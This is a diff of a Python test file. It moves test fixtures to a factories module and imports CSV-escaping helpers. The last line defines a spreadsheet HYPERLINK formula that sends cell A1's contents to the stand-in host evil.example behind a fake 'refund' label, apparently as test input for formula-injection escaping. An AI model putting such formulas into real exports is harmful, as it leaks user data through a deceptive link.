@@ -12,15 +12,18 @@ import io
 from decimal import Decimal
 from pathlib import Path
 
-from sqlalchemy import select
 
 from models import Organisation, db
 from models.core.csv_files import csv_string, csv_text, safe_cell
-from tests import opendata_world
-from tests.conftest import login
-from tests.opendata_world import World
+import pytest
 
-world = opendata_world.world  # the fixture
+from tests import factories
+from tests.factories import login
+from tests.factories import OpenDataBorough as World
+
+@pytest.fixture
+def world(app, places) -> World:
+    return factories.open_data_borough(app)
 
 ROOT = Path(__file__).resolve().parents[2]
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for your refund")'
